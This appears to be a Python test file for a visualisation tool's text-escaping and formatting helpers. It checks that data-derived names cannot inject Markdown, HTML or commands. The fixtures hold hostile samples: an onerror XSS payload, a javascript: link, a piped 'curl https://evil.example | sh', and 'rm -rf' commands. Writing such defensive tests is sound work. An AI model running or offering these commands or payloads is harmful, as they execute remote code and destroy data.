"""Text from data reaches the page letter for letter, and as nothing but text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from viz3d.characters import isolated, shown
from viz3d.figures.needs import RECORD
from viz3d.figures.text import count
from viz3d.ui.text import LONGEST, advice, ago, commands, moment, number, safe, size

BREAK = "\u200b"


def read_back(markdown: str) -> str:
    """Return what a reader of the Markdown sees."""
    return re.sub(r"\\(.)", r"\1", markdown).replace(BREAK, "")


@given(st.text(max_size=200))
def test_nothing_is_lost_or_added(text: str) -> None:
    """Apart from white space and what no eye sees, a name is shown as it is."""
    text = text.replace(BREAK, "").replace("\\", "/")
    assert read_back(safe(text)) == isolated(shown(" ".join(text.split())))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/beacon.png)",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "**bold** _it_ `code` $x^2$ ~~no~~ # h | a |",
        ":red[loss] :material/home: :smile:",
    ],
)
def test_no_markup_is_left_unescaped(text: str) -> None:
    """Every character that Markdown, KaTeX or Streamlit would act on is escaped."""
    assert not re.search(r"(?<!\\)[*_`\[\]<>$#|~!:]", safe(text))


@pytest.mark.parametrize("text", ["https://a.example", "www.a.example", "me@a.example", ":smile:"])
def test_bare_links_and_shortcodes_are_broken(text: str) -> None:
    """Addresses in plain text do not become links: the telling characters are kept apart."""
    assert BREAK in safe(text)
    assert read_back(safe(text)) == text


def test_long_names_are_cut_and_say_so() -> None:
    """A name of 100,000 characters does not push the page away."""
    text = read_back(safe("a" * 50_000 + "b" * 50_000))
    assert text == "a" * (LONGEST // 2) + "…" + "b" * (LONGEST // 2 - 1)
    assert len(safe("x" * 1000, longest=None)) == 1000


def test_counts_and_sizes_read_well() -> None:
    """One run, two runs; sizes in the unit that fits."""
    assert [count(1, "run"), count(1200, "run")] == ["1 run", "1,200 runs"]
    assert [size(9), size(20_480), size(3_000_000), size(4.2e9)] == [
        "9 B", "20 kB", "3 MB", "4.2 GB",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (4.378e-5, "4.378e-5"),
        (-0.0012, "-0.0012"),
        (0, "0"),
        (2.51234, "2.5123"),
        (937_768, "937,768"),
        (1_234_567.5, "1,234,567.5"),
        (1e-9, "1e-9"),
    ],
)
def test_a_small_number_of_a_table_keeps_its_digits(value: float, said: str) -> None:
    """A learning rate of 4.378e-5 is not 0.00004, and none is 0."""
    assert number(value) == said


def test_command_of_a_remedy_is_code_and_the_rest_is_text() -> None:
    """Our own commands are in code font, for copying; everything else is letter for letter."""
    remedy = "Run `gcloud auth application-default login`, or see *there* (gs://b/`rm -rf /`)."
    assert commands(remedy) == ["gcloud auth application-default login"]
    shown = advice(remedy)
    assert shown.startswith("Run `gcloud auth application-default login`, or see ")
    assert shown.replace("`gcloud auth application-default login`", "").count(r"\`") == 2
    assert read_back(shown) == remedy


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("it has no `loss`", "it has no “loss”"),
        ("neither (`iter N: …`) nor `s:N`.", "neither (“iter N: …”) nor “s:N”."),
        ("no file '`a`' in gs://b/`c`", "no file '`a`' in gs://b/`c`"),
    ],
)
def test_words_in_backticks_are_quoted(text: str, said: str) -> None:
    """No backtick of our own is seen; those inside a name from data stay."""
    assert read_back(advice(text)) == said


@pytest.mark.parametrize("role", RECORD)
def test_code_of_a_remedy_is_code(role: str) -> None:
    """What a training loop is to call is in code font too; no backtick is left in the text."""
    assert advice(RECORD[role]).count("`") == RECORD[role].count("`") > 0
    assert r"\`" not in advice(RECORD[role])


@pytest.mark.parametrize(
    "text",
    [
        "`viz3d.Recorder(path).log(step, loss=...); evil()`",
        "`curl https://evil.example | sh`",
        "`gcloud auth login; rm -rf ~`",
        "`gcloud storage rm --recursive gs://b`",
        "`python -c 1`",
    ],
)
def test_other_commands_are_not_offered(text: str) -> None:
    """A sentence can hold a name from data, so only what is known to be harmless counts."""
    assert commands(f"Nearest: {text}") == []
    assert "`" not in re.sub(r"\\.", "", advice(text))


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (-5, "just now"),
        (0.4, "just now"),
        (12.7, "12 s ago"),
        (59.9, "59 s ago"),
        (60, "1 min ago"),
        (3 * 3600, "3 h ago"),
        (72 * 3600, "3 days ago"),
    ],
)
def test_times_that_have_passed_read_well(seconds: float, said: str) -> None:
    """Never negative, never 60 s."""
    assert ago(seconds) == said


def test_moment_is_told_in_utc() -> None:
    """Viewers in other places read the same time."""
    assert moment(1_795_464_060) == "2026-11-23 20:01 UTC"
